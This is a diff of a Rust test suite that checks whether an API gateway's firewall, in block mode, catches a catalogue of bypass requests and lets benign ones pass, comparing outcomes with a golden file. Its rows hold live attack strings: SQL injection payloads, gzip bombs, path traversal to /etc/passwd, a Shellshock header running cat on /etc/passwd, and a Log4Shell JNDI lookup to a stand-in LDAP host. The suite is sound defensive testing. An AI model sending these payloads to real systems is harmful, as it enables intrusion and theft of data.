@@ -1,42 +1,21 @@
 //! Ways around content inspection, by name, through the whole stage in mode block: with the built-in
 //! rules, and with the Core Rule Set where it is there.
 //!
-//! A row is refused as an attack (403), refused for what cannot be read in one way (another 4xx), or
-//! passes.
+//! `tests/golden/waf/bypass.txt` says what becomes of each row: the status, the problem that the
+//! client is told of, and the rules that found something, so that a row which is refused for
+//! another reason than the one it is for does not hold. `PORTCULLIS_WRITE_BYPASSES=1` writes it anew.
+
+use std::collections::BTreeMap;
+use std::fmt::Write as _;
+use std::io::Write as _;
+use std::path::Path;
 
 use crate::gateway::echo;
 use crate::process::{Directory, Process};
 
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-enum End {
-    /// 403: rules found it.
-    Attack,
-    /// Any 4xx but 403: it is not what it says, or too much.
-    Refused,
-    /// Either of the two.
-    Either,
-    Passes,
-}
-
-use End::{Attack, Either, Passes, Refused};
-
-impl End {
-    fn is(self, status: u16) -> bool {
-        match self {
-            Attack => status == 403,
-            Refused => (400..500).contains(&status) && status != 403,
-            Either => (400..500).contains(&status),
-            Passes => status == 200,
-        }
-    }
-}
-
 struct Row {
     name: &'static str,
     request: Vec<u8>,
-    builtin: End,
-    /// None: the rule set has its own opinion, which is not ours to test.
-    crs: Option<End>,
 }
 
 const SQL: &str = "1' or '1'='1' union select password from users-- ";
@@ -72,13 +51,60 @@ fn multipart(body: &str) -> Vec<u8> {
     post("multipart/form-data; boundary=b", body)
 }
 
-fn row(name: &'static str, request: Vec<u8>, builtin: End, crs: Option<End>) -> Row {
-    Row {
-        name,
-        request,
-        builtin,
-        crs,
-    }
+fn row(name: &'static str, request: Vec<u8>) -> Row {
+    Row { name, request }
+}
+
+/// A body in a coding that the operation takes off.
+fn coded(coding: &str, body: &[u8]) -> Vec<u8> {
+    let fields = format!(
+        "Content-Type: {JSON}\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    );
+    [head("POST /coded/items", &fields).as_bytes(), body].concat()
+}
+
+fn gzip(body: &[u8]) -> Vec<u8> {
+    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    encoder.write_all(body).unwrap();
+    encoder.finish().unwrap()
+}
+
+fn coded_rows() -> Vec<Row> {
+    let attack = format!("{{\"a\":\"{SQL}\"}}");
+    let plain = gzip(br#"{"a":1}"#);
+    let bomb = format!("{{\"a\":\"{}\"}}", "0".repeat(64 << 20));
+    // Well below what a body may have, and still out of all proportion.
+    let dense = format!("{{\"a\":\"{}\"}}", "0".repeat(1 << 20));
+    vec![
+        row(
+            "gzip-not-asked-for",
+            post_with(
+                &format!("Content-Type: {JSON}\r\nContent-Encoding: gzip\r\n"),
+                &plain,
+            ),
+        ),
+        row("gzip-request-body", coded("gzip", &gzip(attack.as_bytes()))),
+        row("gzip-bomb", coded("gzip", &gzip(bomb.as_bytes()))),
+        row("gzip-dense", coded("gzip", &gzip(dense.as_bytes()))),
+        row("gzip-that-is-none", coded("gzip", &[0; 4096])),
+        row("gzip-cut-short", coded("gzip", &plain[..plain.len() - 4])),
+        row(
+            "gzip-with-more-behind",
+            coded("gzip", &[&plain, attack.as_bytes()].concat()),
+        ),
+        row(
+            "gzip-second-member",
+            coded("gzip", &[plain.clone(), gzip(attack.as_bytes())].concat()),
+        ),
+        row(
+            "gzip-twice",
+            coded("gzip, gzip", &gzip(&gzip(attack.as_bytes()))),
+        ),
+        row("coding-unknown", coded("br", attack.as_bytes())),
+        row("coding-identity", coded("identity", attack.as_bytes())),
+        row("benign-gzip", coded("gzip", &plain)),
+    ]
 }
 
 fn json_rows() -> Vec<Row> {
@@ -87,128 +113,75 @@ fn json_rows() -> Vec<Row> {
     let padded = format!("{{\"pad\":\"{}\",\"a\":\"{SQL}\"}}", "x".repeat(200 * 1024));
     let utf16: Vec<u8> = attack.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let keys: Vec<String> = (0..10_000).map(|at| format!("\"k{at}\":{at}")).collect();
-    let both = |end| (end, Some(end));
     let rows = [
-        ("json-control", post(JSON, &attack), both(Attack)),
-        (
-            "json-vendor-type",
-            post("application/vnd.a+json", &attack),
-            both(Attack),
-        ),
-        (
-            "json-uppercase-type",
-            post("APPLICATION/JSON", &attack),
-            both(Attack),
-        ),
+        ("json-control", post(JSON, &attack)),
+        ("json-vendor-type", post("application/vnd.a+json", &attack)),
+        ("json-uppercase-type", post("APPLICATION/JSON", &attack)),
         (
             "json-unicode-escapes",
             post(JSON, attack.replace('\'', "\\u0027")),
-            both(Attack),
         ),
-        (
-            "json-key-payload",
-            post(JSON, format!("{{\"{SQL}\":1}}")),
-            both(Attack),
-        ),
+        ("json-key-payload", post(JSON, format!("{{\"{SQL}\":1}}"))),
         (
             "json-nested-string",
             post(JSON, format!("{{\"a\":{:?}}}", attack)),
-            both(Attack),
         ),
-        (
-            "json-as-text-plain",
-            post("text/plain", &attack),
-            both(Attack),
-        ),
-        (
-            "json-without-type",
-            post_with("", &attack),
-            (Attack, Some(Either)),
-        ),
+        ("json-as-text-plain", post("text/plain", &attack)),
+        ("json-without-type", post_with("", &attack)),
         (
             "json-duplicate-key-bad-first",
             post(JSON, format!("{{\"a\":\"{SQL}\",\"a\":\"b\"}}")),
-            both(Attack),
         ),
         (
             "json-duplicate-key-bad-last",
             post(JSON, format!("{{\"a\":\"b\",\"a\":\"{SQL}\"}}")),
-            both(Attack),
         ),
-        ("json-as-multipart-ct", multipart(&attack), both(Either)),
-        ("form-as-json-ct", post(JSON, "a=b"), both(Either)),
-        ("json-as-form-ct", post(FORM, &attack), both(Either)),
-        (
-            "json-bom",
-            post(JSON, format!("\u{feff}{attack}")),
-            both(Either),
-        ),
-        ("json5-comment", post(JSON, "{\"a\":1/*x*/}"), both(Either)),
-        (
-            "json-trailing-comma",
-            post(JSON, "{\"a\":1,}"),
-            both(Either),
-        ),
-        (
-            "json-trailing-garbage",
-            post(JSON, "{\"a\":1}x"),
-            both(Either),
-        ),
-        ("json-nan", post(JSON, "{\"a\":NaN}"), both(Either)),
+        ("json-as-multipart-ct", multipart(&attack)),
+        ("form-as-json-ct", post(JSON, "a=b")),
+        ("json-as-form-ct", post(FORM, &attack)),
+        ("json-bom", post(JSON, format!("\u{feff}{attack}"))),
+        ("json5-comment", post(JSON, "{\"a\":1/*x*/}")),
+        ("json-trailing-comma", post(JSON, "{\"a\":1,}")),
+        ("json-trailing-garbage", post(JSON, "{\"a\":1}x")),
+        ("json-nan", post(JSON, "{\"a\":NaN}")),
         (
             "json-utf16-charset",
             post("application/json; charset=utf-16", utf16),
-            both(Either),
         ),
-        (
-            "json-lone-surrogate",
-            post(JSON, "{\"a\":\"\\ud800\"}"),
-            both(Either),
-        ),
-        ("json-depth-200", post(JSON, deep(200)), both(Either)),
+        ("json-lone-surrogate", post(JSON, "{\"a\":\"\\ud800\"}")),
+        ("json-depth-200", post(JSON, deep(200))),
         (
             "json-10k-keys",
             post(JSON, format!("{{{}}}", keys.join(","))),
-            both(Either),
         ),
         (
             "json-base64-value",
             post(JSON, format!("{{\"a\":\"{BASE64}\"}}")),
-            both(Attack),
         ),
         (
             "json-nul-in-key",
             post(JSON, "{\"a\\u0000.php\":1,\"f\":\"x.php\\u0000.jpg\"}"),
-            (Attack, Some(Either)),
         ),
         (
             "json-proto-key",
             post(JSON, "{\"__proto__\":{\"admin\":true}}"),
-            (Attack, None),
         ),
         (
             "json-fullwidth-quote",
             post(JSON, "{\"a\":\"x\u{ff07} or 1=1\"}"),
-            (Attack, None),
         ),
         (
             "ndjson-second-record",
             post("application/x-ndjson", format!("{{\"a\":1}}\n{attack}\n")),
-            both(Attack),
         ),
-        (
-            "json-pad-200kb-then-payload",
-            post(JSON, padded),
-            both(Refused),
-        ),
+        ("json-pad-200kb-then-payload", post(JSON, padded)),
     ];
     rows.into_iter()
-        .map(|(name, request, (builtin, crs))| row(name, request, builtin, crs))
+        .map(|(name, request)| row(name, request))
         .collect()
 }
 
 fn body_rows() -> Vec<Row> {
-    let gzip = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\x56\x4a\x54\xb2\x52\x32\x54\xaa\x05\x00\x8a\xc5\x4e\x6d\x07\x00\x00\x00";
     let escaped = SQL.replace(' ', "+").replace('\'', "%27");
     let field = "Content-Disposition: form-data; name=\"a\"";
     let file = "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"";
@@ -217,28 +190,8 @@ fn body_rows() -> Vec<Row> {
     let plain = part(field, "1");
     vec![
         row(
-            "gzip-request-body",
-            post_with(
-                &format!("Content-Type: {JSON}\r\nContent-Encoding: gzip\r\n"),
-                gzip,
-            ),
-            Refused,
-            Some(Either),
-        ),
-        row(
-            "gzip-bomb",
-            post_with(
-                &format!("Content-Type: {JSON}\r\nContent-Encoding: gzip\r\n"),
-                vec![0_u8; 4096],
-            ),
-            Refused,
-            Some(Either),
-        ),
-        row(
             "form-charset-ibm037",
             post(&format!("{FORM}; charset=ibm037"), "a=%81"),
-            Refused,
-            Some(Either),
         ),
         row(
             "double-charset-utf7",
@@ -246,51 +199,20 @@ fn body_rows() -> Vec<Row> {
                 "text/plain; charset=utf-8; charset=utf-7",
                 "+ADw-script+AD4-",
             ),
-            Refused,
-            Some(Either),
         ),
-        row(
-            "form-control",
-            post(FORM, format!("a={escaped}")),
-            Attack,
-            Some(Attack),
-        ),
-        row(
-            "form-name-payload",
-            post(FORM, format!("{escaped}=1")),
-            Attack,
-            Some(Attack),
-        ),
+        row("form-control", post(FORM, format!("a={escaped}"))),
+        row("form-name-payload", post(FORM, format!("{escaped}=1"))),
         row(
             "form-hpp-split",
             post(FORM, "a=1%27+union&a=+select+password+from+users--+"),
-            Attack,
-            Some(Attack),
         ),
         row(
             "form-percent-u",
             post(FORM, "a=1%u0027 or %u00271%u0027=%u00271"),
-            Either,
-            Some(Either),
         ),
-        row(
-            "form-overlong-utf8",
-            post(FORM, "a=%c0%ae%c0%ae%c0%af"),
-            Attack,
-            None,
-        ),
-        row(
-            "form-nul",
-            post(FORM, "f=x.php%00.jpg"),
-            Attack,
-            Some(Either),
-        ),
-        row(
-            "multipart-control",
-            multipart(&attack),
-            Attack,
-            Some(Attack),
-        ),
+        row("form-overlong-utf8", post(FORM, "a=%c0%ae%c0%ae%c0%af")),
+        row("form-nul", post(FORM, "f=x.php%00.jpg")),
+        row("multipart-control", multipart(&attack)),
         row(
             "multipart-filename-star",
             multipart(&format!(
@@ -300,20 +222,14 @@ fn body_rows() -> Vec<Row> {
                     "x"
                 )
             )),
-            Refused,
-            Some(Either),
         ),
         row(
             "multipart-preamble-payload",
             multipart(&format!("{SQL}\r\n{plain}{end}")),
-            Either,
-            Some(Either),
         ),
         row(
             "multipart-epilogue-payload",
             multipart(&format!("{plain}{end}{SQL}")),
-            Either,
-            Some(Either),
         ),
         row(
             "multipart-dup-name",
@@ -324,32 +240,19 @@ fn body_rows() -> Vec<Row> {
                     "1"
                 )
             )),
-            Refused,
-            Some(Either),
         ),
-        row(
-            "multipart-no-final-boundary",
-            multipart(&plain),
-            Refused,
-            Some(Either),
-        ),
+        row("multipart-no-final-boundary", multipart(&plain)),
         row(
             "multipart-two-boundaries",
             post("multipart/form-data; boundary=b; boundary=c", &attack),
-            Either,
-            Some(Either),
         ),
         row(
             "multipart-rfc2231-boundary",
             post("multipart/form-data; boundary*0=b", &attack),
-            Either,
-            Some(Either),
         ),
         row(
             "multipart-lf-only",
             multipart(&attack.replace("\r\n", "\n")),
-            Either,
-            Some(Either),
         ),
         row(
             "multipart-cte-base64",
@@ -360,8 +263,6 @@ fn body_rows() -> Vec<Row> {
                     BASE64
                 )
             )),
-            Either,
-            Some(Either),
         ),
         row(
             "multipart-header-folding",
@@ -369,8 +270,6 @@ fn body_rows() -> Vec<Row> {
                 "{}{end}",
                 part("Content-Disposition: form-data;\r\n name=\"a\"", "1")
             )),
-            Refused,
-            Some(Either),
         ),
         row(
             "multipart-part-charset-first-bad-last-good",
@@ -385,8 +284,6 @@ fn body_rows() -> Vec<Row> {
                     "1"
                 )
             )),
-            Refused,
-            Some(Either),
         ),
         row(
             "multipart-filename-space-before-extension",
@@ -397,8 +294,6 @@ fn body_rows() -> Vec<Row> {
                     "x"
                 )
             )),
-            Attack,
-            None,
         ),
         row(
             "multipart-json-part",
@@ -409,26 +304,15 @@ fn body_rows() -> Vec<Row> {
                     &format!("{{\"x\":\"{SQL}\"}}")
                 )
             )),
-            Attack,
-            Some(Attack),
         ),
         row(
             "multipart-file-content",
             multipart(&format!("{}{end}", part(file, SQL))),
-            Passes,
-            None,
         ),
-        row(
-            "xml-element",
-            post("text/xml", format!("<a>{SQL}</a>")),
-            Attack,
-            Some(Attack),
-        ),
+        row("xml-element", post("text/xml", format!("<a>{SQL}</a>"))),
         row(
             "xml-attribute",
             post("text/xml", format!("<a b=\"{SQL}\"/>")),
-            Attack,
-            Some(Attack),
         ),
         row(
             "xml-comment-split",
@@ -436,14 +320,10 @@ fn body_rows() -> Vec<Row> {
                 "text/xml",
                 "<a>1' or '1'=<!-- x -->'1' union select password from users-- </a>",
             ),
-            Attack,
-            Some(Attack),
         ),
         row(
             "xml-character-references",
             post("text/xml", format!("<a>{}</a>", SQL.replace('\'', "&#39;"))),
-            Attack,
-            Some(Attack),
         ),
         row(
             "xxe-dtd-external-entity",
@@ -451,23 +331,14 @@ fn body_rows() -> Vec<Row> {
                 "text/xml",
                 "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>",
             ),
-            Either,
-            Some(Either),
         ),
-        row(
-            "xml-utf16",
-            post("text/xml; charset=utf-16", "<a>1</a>"),
-            Refused,
-            Some(Either),
-        ),
+        row("xml-utf16", post("text/xml; charset=utf-16", "<a>1</a>")),
         row(
             "content-type-twice",
             post_with(
                 &format!("Content-Type: {JSON}\r\nContent-Type: {FORM}\r\n"),
                 "a=1",
             ),
-            Refused,
-            Some(Either),
         ),
         row(
             "content-type-twice-swapped",
@@ -475,8 +346,6 @@ fn body_rows() -> Vec<Row> {
                 &format!("Content-Type: {FORM}\r\nContent-Type: {JSON}\r\n"),
                 "{\"a\":1}",
             ),
-            Refused,
-            Some(Either),
         ),
     ]
 }
@@ -501,65 +370,37 @@ fn head_rows() -> Vec<Row> {
     let many: String = (0..300).map(|at| format!("X-H{at}: 1\r\n")).collect();
     let bomb: Vec<String> = (0..5000).map(|at| format!("c{at}=1")).collect();
     vec![
-        row(
-            "query-control",
-            get(&format!("/v1/items?a={escaped}"), ""),
-            Attack,
-            Some(Attack),
-        ),
+        row("query-control", get(&format!("/v1/items?a={escaped}"), "")),
         row(
             "query-double-encoded",
             get(&format!("/v1/items?a={twice}"), ""),
-            Attack,
-            Some(Attack),
         ),
-        row(
-            "path-segment-sqli",
-            get(&format!("/v1/{escaped}"), ""),
-            Attack,
-            Some(Attack),
-        ),
-        row(
-            "path-%3f-sqli",
-            get(&format!("/v1/x%3Fa={escaped}"), ""),
-            Either,
-            Some(Either),
-        ),
+        row("path-segment-sqli", get(&format!("/v1/{escaped}"), "")),
+        row("path-%3f-sqli", get(&format!("/v1/x%3Fa={escaped}"), "")),
+        row("query-with-raw-signs", get("/v1/items?a='||\"{x}", "")),
         row(
             "path-double-slash",
             get(&format!("//v1/items?a={escaped}"), ""),
-            Either,
-            Some(Either),
         ),
         row(
             "path-traversal-encoded",
             get("/v1/..%252f..%252fetc/passwd", ""),
-            Either,
-            Some(Either),
         ),
         row(
             "header-sqli",
             get("/v1/items", &format!("X-Filter: {SQL}\r\n")),
-            Attack,
-            Some(Attack),
         ),
         row(
             "authorization-sqli",
             get("/v1/items", &format!("Authorization: {SQL}\r\n")),
-            Attack,
-            Some(Attack),
         ),
         row(
             "header-not-opted-in",
             get("/v1/items", "X-Other: 1' or '1'='1\r\n"),
-            Passes,
-            None,
         ),
         row(
             "cookie-base64",
             get("/v1/items", &format!("Cookie: a=b; s={BASE64}\r\n")),
-            Attack,
-            Some(Attack),
         ),
         row(
             "cookie-base64-json",
@@ -567,14 +408,10 @@ fn head_rows() -> Vec<Row> {
                 "/v1/items",
                 "Cookie: s=eyJhIjoiMScgb3IgJzEnPScxJyB1bmlvbiBzZWxlY3QgMSwyLS0gIn0=\r\n",
             ),
-            Attack,
-            Some(Attack),
         ),
         row(
             "referer-sqli",
             get("/v1/items", &format!("Referer: {SQL}\r\n")),
-            Attack,
-            Some(Attack),
         ),
         row(
             "x-forwarded-for-xss",
@@ -582,8 +419,6 @@ fn head_rows() -> Vec<Row> {
                 "/v1/items",
                 "X-Forwarded-For: <script>alert(1)</script>\r\n",
             ),
-            Either,
-            Some(Either),
         ),
         row(
             "log4shell-header",
@@ -591,8 +426,6 @@ fn head_rows() -> Vec<Row> {
                 "/v1/items",
                 "X-Api-Version: ${${lower:j}ndi:ldap://a.example/x}\r\n",
             ),
-            Attack,
-            Some(Attack),
         ),
         row(
             "shellshock-header",
@@ -600,33 +433,20 @@ fn head_rows() -> Vec<Row> {
                 "/v1/items",
                 "User-Agent: () { :;}; /bin/cat /etc/passwd\r\n",
             ),
-            Attack,
-            Some(Attack),
         ),
         row(
             "chunk-extension",
             chunked("3;x=\"\r\n\r\n\"\r\na=1\r\n0\r\n\r\n"),
-            Either,
-            Some(Either),
         ),
-        row("chunk-split-payload", chunked(&split), Attack, Some(Attack)),
+        row("chunk-split-payload", chunked(&split)),
         row(
             "trailer-payload",
             chunked(&format!("3\r\na=1\r\n0\r\nX-Filter: {SQL}\r\n\r\n")),
-            Passes,
-            Some(Passes),
         ),
-        row(
-            "300-headers",
-            get("/v1/items", &many),
-            Refused,
-            Some(Either),
-        ),
+        row("300-headers", get("/v1/items", &many)),
         row(
             "cookie-bomb",
             get("/v1/items", &format!("Cookie: {}\r\n", bomb.join("; "))),
-            Refused,
-            Some(Either),
         ),
     ]
 }
@@ -641,36 +461,46 @@ fn benign_rows() -> Vec<Row> {
         part(file, "a text")
     );
     vec![
-        row("benign-json", post(JSON, "{\"a\":{\"name\":\"O'Brien\",\"n\":[1,2.5e3,null,true]}}"), Passes, Some(Passes)),
-        row("benign-json-string", post(JSON, "{\"a\":\"{\\\"b\\\": [1, 2], \\\"c\\\": \\\"it's\\\"}\"}"), Passes, Some(Passes)),
-        row("benign-json-base64", post(JSON, "{\"a\":\"SGVsbG8sIHRoaXMgaXMgYSB0ZXh0IGZvciB5b3Uu\"}"), Passes, Some(Passes)),
-        row("benign-json-twice", post(JSON, "{\"a\":1,\"a\":2}"), Passes, Some(Passes)),
-        row("benign-json-depth-60", post(JSON, format!("{}1{}", "[".repeat(60), "]".repeat(60))), Passes, None),
-        row("benign-json-surrogates", post(JSON, "{\"a\":\"\\ud83d\\ude00 \u{fc}\"}"), Passes, Some(Passes)),
-        row("benign-ndjson", post("application/x-ndjson", "{\"a\":1}\n{\"a\":2}\n"), Passes, None),
-        row("benign-text", post("text/plain", "Dear all, see you at 5 o'clock."), Passes, None),
-        row("benign-form", post(FORM, "a=O%27Brien&a=2&b=%C3%BC"), Passes, Some(Passes)),
-        row("benign-multipart", multipart(&multi), Passes, Some(Passes)),
-        row("benign-xml", post("text/xml", "<a b=\"c\"><!-- d -->e &amp; f</a>"), Passes, Some(Passes)),
-        row("benign-charset", post("application/json; charset=UTF-8", "{\"a\":1}"), Passes, Some(Passes)),
-        row("benign-path", get("/v1/J%C3%BCrg%20M%C3%BCller", ""), Passes, None),
-        row("benign-header", get("/v1/items", "X-Filter: name eq bern and size gt 5\r\nAuthorization: Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln\r\n"), Passes, None),
-        row("benign-cookie", get("/v1/items", "Cookie: theme=dark; _ga=GA1.2.1234567890.1690000000; s=eyJpZCI6MTIzNCwibmFtZSI6IkFubmEifQ==\r\n"), Passes, None),
-        row("benign-chunked", head("POST /v1/items", &format!("Content-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\na=1\r\n0\r\n\r\n")).into_bytes(), Passes, Some(Passes)),
-        row("benign-url", post(JSON, "{\"callback\":\"https://app.example/done?x=1&y=two#top\"}"), Passes, Some(Passes)),
+        row("benign-json", post(JSON, "{\"a\":{\"name\":\"O'Brien\",\"n\":[1,2.5e3,null,true]}}")),
+        row("benign-json-string", post(JSON, "{\"a\":\"{\\\"b\\\": [1, 2], \\\"c\\\": \\\"it's\\\"}\"}")),
+        row("benign-json-base64", post(JSON, "{\"a\":\"SGVsbG8sIHRoaXMgaXMgYSB0ZXh0IGZvciB5b3Uu\"}")),
+        row("benign-json-twice", post(JSON, "{\"a\":1,\"a\":2}")),
+        row("benign-json-depth-60", post(JSON, format!("{}1{}", "[".repeat(60), "]".repeat(60)))),
+        row("benign-json-surrogates", post(JSON, "{\"a\":\"\\ud83d\\ude00 \u{fc}\"}")),
+        row("benign-ndjson", post("application/x-ndjson", "{\"a\":1}\n{\"a\":2}\n")),
+        row("benign-text", post("text/plain", "Dear all, see you at 5 o'clock.")),
+        row("benign-form", post(FORM, "a=O%27Brien&a=2&b=%C3%BC")),
+        row("benign-multipart", multipart(&multi)),
+        row("benign-xml", post("text/xml", "<a b=\"c\"><!-- d -->e &amp; f</a>")),
+        row("benign-charset", post("application/json; charset=UTF-8", "{\"a\":1}")),
+        row("benign-path", get("/v1/J%C3%BCrg%20M%C3%BCller", "")),
+        row("benign-header", get("/v1/items", "X-Filter: name eq bern and size gt 5\r\nAuthorization: Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln\r\n")),
+        row("benign-cookie", get("/v1/items", "Cookie: theme=dark; _ga=GA1.2.1234567890.1690000000; s=eyJpZCI6MTIzNCwibmFtZSI6IkFubmEifQ==\r\n")),
+        row("benign-chunked", head("POST /v1/items", &format!("Content-Type: {FORM}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\na=1\r\n0\r\n\r\n")).into_bytes()),
+        row("benign-url", post(JSON, "{\"callback\":\"https://app.example/done?x=1&y=two#top\"}")),
     ]
 }
 
 fn rows() -> Vec<Row> {
-    let all = [json_rows(), body_rows(), head_rows(), benign_rows()];
+    let all = [
+        json_rows(),
+        coded_rows(),
+        body_rows(),
+        head_rows(),
+        benign_rows(),
+    ];
     all.into_iter().flatten().collect()
 }
 
 fn config(waf: &str) -> String {
     format!(
         r#"
+[server]
+shards = 1
 [admin]
 address = "127.0.0.1:0"
+[log]
+access = "access.log"
 [[listener]]
 address = "127.0.0.1:0"
 [upstream.app]
@@ -685,41 +515,113 @@ upstream = "app"
 owner = "team"
 max_body = "2MiB"
 waf_headers = ["X-Filter", "Authorization"]
+[api.coded]
+paths = ["/coded/**"]
+methods = ["POST"]
+contract = "none"
+authentication = "none"
+upstream = "app"
+owner = "team"
+max_body = "2MiB"
+request_encodings = ["gzip"]
+waf_headers = []
 "#,
         echo()
     )
 }
 
-/// All rows against one process; those that end otherwise than they should.
-fn wrong(name: &str, config: &str, expected: impl Fn(&Row) -> Option<End>) -> Vec<String> {
+/// What became of each row: status, problem, and the rules that found something.
+fn outcomes(name: &str, config: &str) -> BTreeMap<&'static str, String> {
     let directory = Directory::new(name);
     directory.write("gateway.toml", config);
-    let process = Process::start(&directory.path("gateway.toml"));
-    let mut wrong = Vec::new();
+    let mut process = Process::start(&directory.path("gateway.toml"));
+    let mut outcomes = Vec::new();
     for row in rows() {
-        let Some(end) = expected(&row) else { continue };
         let answer = process.connect().ask(&row.request);
-        // Fields behind a body are not passed on, so that nothing in them has to be looked at.
         let text = String::from_utf8_lossy(&answer.body);
-        if row.name == "trailer-payload" && text.contains("union") {
-            wrong.push(format!("the trailer was passed on: {text}"));
+        // Fields behind a body are not passed on, so that nothing in them has to be looked at.
+        if row.name == "trailer-payload" {
+            assert!(!text.contains("union"), "the trailer was passed on: {text}");
         }
-        if !end.is(answer.status) {
-            let name = row.name;
-            wrong.push(format!(
-                "{name}: {end:?} expected, but {} {}",
-                answer.status, text
-            ));
+        let problem: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
+        let kind = problem["type"].as_str().unwrap_or_default();
+        let kind = kind.rsplit(':').next().unwrap_or_default();
+        let outcome = format!("{} {kind}", answer.status);
+        outcomes.push((row.name, outcome.trim_end().to_owned()));
+    }
+    process.signal(nix::sys::signal::Signal::SIGTERM);
+    process.ended();
+    // One shard tells of one request after the other.
+    let log = std::fs::read_to_string(directory.path("access.log")).unwrap();
+    assert_eq!(log.lines().count(), outcomes.len(), "{log}");
+    for (line, (name, outcome)) in log.lines().zip(&mut outcomes) {
+        let line: serde_json::Value = serde_json::from_str(line).unwrap();
+        let status = line["status"].to_string();
+        assert!(
+            outcome.starts_with(&status),
+            "{name}: {outcome}, but {line}"
+        );
+        for hit in line["waf"].as_array().into_iter().flatten() {
+            write!(outcome, " {}", hit["rule"]).unwrap();
         }
     }
-    wrong
+    let count = outcomes.len();
+    let outcomes: BTreeMap<&'static str, String> = outcomes.into_iter().collect();
+    assert_eq!(outcomes.len(), count, "two rows have one name");
+    outcomes
 }
+
+const GOLDEN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/waf/bypass.txt");
+
+/// One column of the file: `name = built-in rules | Core Rule Set`.
+fn check(column: usize, found: &BTreeMap<&'static str, String>) {
+    let text = std::fs::read_to_string(GOLDEN).unwrap_or_default();
+    let lines = text.lines().filter_map(|line| line.split_once(" = "));
+    let mut expected: BTreeMap<&str, [&str; 2]> = lines
+        .map(|(name, ends)| {
+            let (builtin, crs) = ends.split_once(" | ").unwrap_or((ends, ""));
+            (name.trim(), [builtin.trim(), crs.trim()])
+        })
+        .collect();
+    if std::env::var_os("PORTCULLIS_WRITE_BYPASSES").is_some() {
+        for (name, outcome) in found {
+            expected.entry(name).or_default()[column] = outcome;
+        }
+        let mut made = String::from(HEADING);
+        for row in rows() {
+            let [builtin, crs] = expected.get(row.name).copied().unwrap_or_default();
+            writeln!(made, "{} = {builtin} | {crs}", row.name).unwrap();
+        }
+        std::fs::create_dir_all(Path::new(GOLDEN).parent().unwrap()).unwrap();
+        std::fs::write(GOLDEN, made).unwrap();
+        return;
+    }
+    let wrong: Vec<String> = found
+        .iter()
+        .filter(|(name, outcome)| {
+            expected.get(**name).map(|ends| ends[column]) != Some(outcome.as_str())
+        })
+        .map(|(name, outcome)| format!("{name}: {outcome}, not {:?}", expected.get(name)))
+        .collect();
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert_eq!(expected.len(), found.len(), "rows that are not asked for");
+}
+
+const HEADING: &str = "\
+# name = built-in rules | Core Rule Set: the status, the problem, and the rules that found something,
+# the verdict last.
+
+";
 
 #[test]
 fn nothing_gets_around_the_built_in_rules() {
     let config = config("[waf.builtin]\nmode = \"block\"");
-    let wrong = wrong("waf-bypass", &config, |row| Some(row.builtin));
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    let found = outcomes("waf-bypass", &config);
+    check(0, &found);
+    let benign = found.iter().filter(|(name, _)| name.starts_with("benign"));
+    for (name, outcome) in benign {
+        assert!(outcome.starts_with("200"), "{name}: {outcome}");
+    }
 }
 
 #[test]
@@ -733,21 +635,21 @@ fn nothing_gets_around_the_core_rule_set() {
     let waf = format!(
         "[waf.crs]\nmode = \"block\"\non_unsupported = \"skip\"\n\
          rules = [\"{root}/crs-setup.conf.example\", \"{root}/rules/*.conf\"]\n\
-         variables = {{ allowed_methods = \"GET POST\", allowed_request_content_type = \"|application/json| \
+         variables = {{ crs_validate_utf8_encoding = \"1\", inbound_anomaly_score_threshold = \"3\", \
+         allowed_methods = \"GET POST\", \
+         allowed_request_content_type = \"|application/json| \
          |application/x-www-form-urlencoded| |multipart/form-data| |text/xml| |text/plain| \
          |application/vnd.a+json| |application/x-ndjson|\" }}"
     );
     let config = config(&waf).replace("waf_headers", "waf = \"crs\"\nwaf_headers");
-    let wrong = wrong("waf-bypass-crs", &config, |row| row.crs);
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    check(1, &outcomes("waf-bypass-crs", &config));
 }
 
 /// By default nothing is refused, and a long upload is not held up to be looked at.
 #[test]
 fn by_default_attacks_are_told_and_long_uploads_stream_past() {
     let directory = Directory::new("waf-default");
-    let config = config("").replace("[admin]", "[log]\naccess = \"access.log\"\n[admin]");
-    directory.write("gateway.toml", &config);
+    directory.write("gateway.toml", &config(""));
     let mut process = Process::start(&directory.path("gateway.toml"));
     let mut client = process.connect();
     let attack = client.ask(get("/v1/items?a=1%27%20or%20%271%27=%271", ""));
